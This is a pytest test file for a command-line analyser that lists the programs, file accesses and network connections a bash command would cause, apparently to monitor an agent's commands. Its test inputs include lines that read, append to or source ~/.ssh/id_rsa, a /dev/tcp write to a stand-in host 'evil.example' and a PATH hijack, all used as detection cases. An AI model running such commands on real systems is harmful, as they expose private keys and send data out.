"""Programs and redirections of command lines, and that nothing is run on the way."""

from __future__ import annotations

import os
import shlex
import subprocess

import pytest

from lictor.hooks.commands import BUILTINS, command_acts, program_acts


@pytest.fixture
def acts(house):
    def made(command: str):
        first, *found = command_acts(command, str(house.repo), house.around)
        assert (first.on, first.exe) == ("exec", os.path.realpath("/bin/bash"))
        assert shlex.split(first.argv) == ["bash", "-c", command]
        return found

    return made


@pytest.fixture
def ran(house, acts):
    """Names of the programs that a command line would start."""

    def names(command: str) -> list[str]:
        return [a.argv for a in acts(command) if a.on == "exec"]

    return names


@pytest.fixture
def touched(house, acts):
    """Operations and paths, from the home on."""

    def found(command: str) -> list[tuple[str, str]]:
        return [(a.on, a.path.removeprefix(f"{house.home}/")) for a in acts(command) if a.on.startswith("file.")]

    return found


def test_a_program_is_named_as_the_kernel_names_it(house, acts):
    (house.programs / "nick").symlink_to(house.programs / "git")
    (act,) = acts("nick push --force 'a b'")
    assert act.path == act.exe == str(house.programs / "git")
    assert act.argv == "nick push --force 'a b'"
    assert act.parent == os.path.realpath("/bin/bash")


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status && git push", ["git status", "git push"]),
        ("echo $(git a) `git b` <(git c)", ["git a", "git b", "git c"]),
        ("bash -c 'git x | lister'", ["bash -c 'git x | lister'", "git x", "lister"]),
        ("env A=1 git x", ["env A=1 git x", "git x"]),
        ("sudo -u root env planner", ["sudo -u root env planner", "env planner", "planner"]),
        ("lister | xargs -n 1 planner", ["lister", "xargs -n 1 planner", "planner"]),
        ("command git x; exec git y", ["git x", "git y"]),
        ("eval 'git x; git y'", ["git x", "git y"]),
        ("echo git; true; cd /", []),
        ("no-such-program x", []),
        ("$x git", []),
        ("PATH=/evil:$PATH git x", []),
        ("if git a; then git b; fi", ["git a", "git b"]),
        ("cat <<E | git x\nplanner\nE", ["cat", "git x"]),
    ],
)
def test_programs_of_a_command_line(ran, command, expected):
    assert ran(command) == expected


def test_a_script_is_its_interpreter_too(house, acts):
    script, inner = acts("tool --fast")
    assert script.script == script.path == str(house.programs / "tool")
    assert script.exe == os.path.realpath("/usr/bin/env")
    assert script.argv == f"/usr/bin/env planner {house.programs}/tool --fast"
    assert inner.exe == str(house.programs / "planner")
    assert inner.argv == f"planner {house.programs}/tool --fast"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("lister < ~/.ssh/id_rsa", [("file.read", ".ssh/id_rsa")]),
        ("echo x > new", [("file.create", "repo/new")]),
        ("echo x >> ~/.ssh/id_rsa 2>&1", [("file.write", ".ssh/id_rsa")]),
        ("git &> log 2>/dev/stderr", [("file.create", "repo/log")]),
        ("cd .. && echo x > new", [("file.create", "new")]),
        ("(cd ..; echo); echo x > new", [("file.create", "repo/new")]),
        ("cd $x; echo x > new; echo > /dev/stdout", []),
        ("cd; echo x > new", [("file.create", "new")]),
        ("git <> ~/.ssh/id_rsa", [("file.write", ".ssh/id_rsa")]),
        ("for i in 1; do git; done > new", [("file.create", "repo/new")]),
        ("bash -c 'echo > a'; { git; } > b", [("file.create", "repo/a"), ("file.create", "repo/b")]),
        (". ~/.ssh/id_rsa", [("file.read", ".ssh/id_rsa")]),
        ("git < $x > *.y", []),
        ("cat ~/.ssh/id_rsa", []),
    ],
)
def test_files_of_a_command_line(touched, command, expected):
    assert touched(command) == expected


def test_bash_opens_connections_by_name(acts):
    tcp, udp = acts("echo x > /dev/tcp/evil.example/80; echo < /dev/udp/127.0.0.1/53")
    assert (tcp.on, tcp.domain, tcp.port) == ("net.connect", "evil.example", 80)
    assert (udp.ip, udp.port) == ("127.0.0.1", 53)


def test_nothing_is_run(house, acts, tmp_path):
    (house.programs / "touchy").write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    (house.programs / "touchy").chmod(0o755)
    assert acts("touchy; $(touchy); echo > made")
    assert not (tmp_path / "ran").exists()
    assert not (house.repo / "made").exists()


def test_a_program_without_a_shell_is_taken_word_by_word(house):
    act, *inner = program_acts(["bash", "-lc", "git 'a b'"], str(house.repo), house.around)
    assert (act.argv, act.parent) == ("bash -lc 'git '\"'\"'a b'\"'\"''", "/usr/bin/agent")
    assert [a.argv for a in inner] == ["git 'a b'"]
    (plain,) = program_acts(["git", "$(planner)", "*"], str(house.repo), house.around)
    assert shlex.split(plain.argv) == ["git", "$(planner)", "*"]


def test_depth_and_number_have_an_end(house):
    assert len(command_acts("git;" * 5000, str(house.repo), house.around)) == 1000
    assert len(command_acts("eval " * 100 + "git", str(house.repo), house.around)) == 1


def test_builtins_are_those_of_bash():
    said = subprocess.run(["bash", "-c", "compgen -b"], capture_output=True, text=True, check=True).stdout.split()
    assert set(said) <= BUILTINS
    assert BUILTINS - set(said) == set()
